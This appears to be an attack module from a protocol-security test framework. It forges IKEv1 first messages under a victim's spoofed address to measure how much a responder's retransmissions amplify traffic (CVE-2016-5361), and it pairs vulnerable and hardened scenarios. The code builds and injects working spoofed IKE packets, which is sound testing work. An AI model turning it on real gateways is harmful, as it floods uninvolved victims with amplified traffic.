-- UDP does not say who asks. A responder that repeats its answer until it hears more, as RFC 2408 lets it, turns one forged datagram
-- into many, all sent to somebody who never asked.
attack = {
  id = "A14", name = "ikev1-amplify",
  about = "Forges first messages of IKEv1 from a victim's address and counts what the responder sends there",
  position = "on-path",
  needs = "to send with another's address; to be on the path only to count",
  source = "CVE-2016-5361; RFC 2408, 5.1; catalogue A14",
  shows = {
    vulnerable = "the responder repeats its answers to the unproven: several times the octets, over half a minute",
    hardened = "one answer for each question: no more octets come out than the handshake itself costs",
  },
  scenarios = { vulnerable = "ikev1-amplification", hardened = { "ikev1-amplification-silent" } },
}

-- Parameters: questions = "10", factor = "3" (octets out for each octet in, to count as amplification).
local questions, factor, sent, answered, repeats, bytes_in, bytes_out = 10, 3, 0, 0, 0, 0, 0
local mine = {}

function on_start(params)
  questions = tonumber(params.questions or "10")
  factor = tonumber(params.factor or "3")
  timer.after("1100ms", "ask")
end

local function attribute(type, value) return string.pack(">I2I2", 0x8000 | type, value) end

-- One proposal, one transform: AES-128, SHA, pre-shared key, MODP-1024.
local function offer()
  local attributes = attribute(1, 7) .. attribute(2, 2) .. attribute(4, 2) .. attribute(3, 1) .. attribute(14, 128)
  local transform = string.pack(">I1I1I2I1I1I2", 0, 0, 8 + #attributes, 1, 1, 0) .. attributes
  local proposal = string.pack(">I1I1I2I1I1I1I1", 0, 0, 8 + #transform, 1, 1, 0, 1) .. transform
  return string.pack(">I4I4", 1, 1) .. proposal
end

function on_timer()
  local spi = bytes.hex(crypto.random(8))
  mine[spi] = 0
  local octets = ike.encode({ version = 0x10, spi_i = spi, spi_r = "0000000000000000", exchange = 4, message_id = 0, payloads = {
    { number = 1, body = offer() }, { number = 4, body = crypto.random(128) }, { number = 10, body = crypto.random(20) },
    { number = 5, body = string.pack(">I1I1I2", 2, 0, 0) .. "gw-a.example" } } })
  bytes_in = bytes_in + #octets
  sent = sent + 1
  inject{ src = "192.0.2.1", src_port = 500, dst = "192.0.2.2", dst_port = 500, protocol = "IKE", to = "gw-b", payload = octets,
    note = "a question in gw-a's name" }
  if sent < questions then timer.after("200ms", "ask") end
end

function on_packet(p)
  if p.protocol ~= "IKE" or p.from ~= "gw-b" then return end
  local message = ike.decode(p.payload)
  local count = mine[message.spi_i]
  if not count then return end
  if count == 0 then answered = answered + 1 else repeats = repeats + 1 end
  mine[message.spi_i] = count + 1
  bytes_out = bytes_out + #p.payload
  drop("counted; the victim would get it")
end

function on_finish()
  local told = sent .. " questions of " .. bytes_in .. " octets, " .. answered .. " answers and " .. repeats .. " repetitions of " .. bytes_out .. " octets"
  learn("amplification", told, "counted on the wire to the victim")
  achieved("make the responder send many times what it got", bytes_out >= factor * bytes_in, told)
end
